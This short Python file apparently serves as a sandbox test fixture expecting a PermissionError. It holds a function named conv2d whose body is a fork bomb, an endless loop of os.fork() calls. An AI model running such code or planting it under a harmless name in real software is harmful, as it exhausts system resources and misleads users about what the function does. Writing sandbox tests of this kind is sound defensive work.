# R4, R5
# expect: PermissionError
import os


def conv2d(image, kernel):
    while True:
        os.fork()
